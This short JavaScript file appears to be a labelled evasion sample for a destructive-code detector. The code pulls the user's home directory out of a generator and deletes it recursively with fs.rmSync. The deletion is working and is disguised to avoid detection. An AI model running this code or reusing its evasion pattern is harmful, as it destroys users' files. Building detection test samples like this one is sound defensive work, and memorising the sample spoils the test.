// evasion: an immediately called generator's first value taken with const { value } = it.next() and removed recursively
// grade: hard; does: delete
'use strict';
const fs = require('fs'); const os = require('os');
const it = (function* () { yield os.homedir(); })();
const { value } = it.next();
fs.rmSync(value, { recursive: true, force: true });
